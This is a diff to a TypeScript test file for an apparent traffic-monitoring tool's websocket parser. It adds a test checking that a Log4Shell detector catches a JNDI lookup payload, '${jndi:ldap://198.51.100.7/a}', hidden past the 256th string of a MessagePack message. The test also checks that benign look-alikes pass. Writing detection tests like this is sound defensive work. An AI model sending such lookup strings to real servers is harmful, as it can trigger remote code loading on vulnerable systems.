@@ -10,6 +10,7 @@ import { defaultObservers } from '#sidecar/engine/default-observers.ts';
 import type { Direction, WebsocketMessageEvent } from '#sidecar/events.ts';
 import { http } from '#sidecar/protocols/http.ts';
 import { createWebsocketReader, websocketDeflate } from '#sidecar/protocols/http-websocket.ts';
+import { log4shell } from '#sidecar/threats/log4shell.ts';
 import {
   ascii,
   concat,
@@ -19,6 +20,7 @@ import {
   type Segment,
 } from '#test/fixtures/protocols/protocol-harness.ts';
 import { type Endpoints, tcpConversation } from '../engine/conversation.ts';
+import { runThreat } from '../threats/threat-factories.ts';
 import { startRecorder } from './loopback-recorder.ts';
 
 // Frames built by hand from RFC 6455 §5.2 (header, lengths, masking), §5.4 (fragments, control frames between
@@ -132,6 +134,25 @@ describe('websocket frames', () => {
         Array.from(small, (b) => Uint8Array.of(b)),
       ).events,
     ).toEqual(expected.slice(0, 2));
+  });
+
+  it("lists a MessagePack message's strings past the 256th as one, `(rest)`, which is judged (ADR 35)", () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
+    const jndi = '${jndi:ldap://198.51.100.7/a}';
+    const items = Array.from({ length: 300 }, (_, i) => `item ${i}`);
+    const bytes = frame(2, encode({ items, q: jndi }), { mask });
+    const [event] = readAll('to-server', [bytes]).events as WebsocketMessageEvent[];
+    const strings = event?.strings ?? [];
+    expect(strings).toHaveLength(257);
+    expect(strings[255]).toEqual(['$.items[255]', 'item 255']);
+    expect(strings[256]).toEqual(['(rest)', [...items.slice(256), jndi].join('\n')]);
+    const found = runThreat(log4shell, [{ ...event, ts: 1 } as WebsocketMessageEvent]);
+    expect(found.map((h) => h.evidence)).toEqual([expect.stringContaining('websocket msgpack (rest)')]);
+    const harmless = frame(2, encode({ items: items.map((item) => `\${user} ${item} $HOME ldap://host`) }), {
+      mask,
+    });
+    const [quiet] = readAll('to-server', [harmless]).events as WebsocketMessageEvent[];
+    expect(runThreat(log4shell, [{ ...quiet, ts: 1 } as WebsocketMessageEvent])).toEqual([]);
   });
 
   it('joins fragments, with control frames between them, into one message', () => {
